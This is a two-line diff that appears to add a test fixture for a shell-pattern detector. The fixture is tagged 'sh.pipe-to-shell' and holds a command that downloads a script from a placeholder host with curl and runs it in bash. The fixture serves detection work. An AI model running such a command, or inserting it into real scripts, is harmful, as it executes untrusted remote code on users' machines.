@@ -1,0 +1,2 @@
+# expect: sh.pipe-to-shell
+bash <(curl -s http://example.com/x)
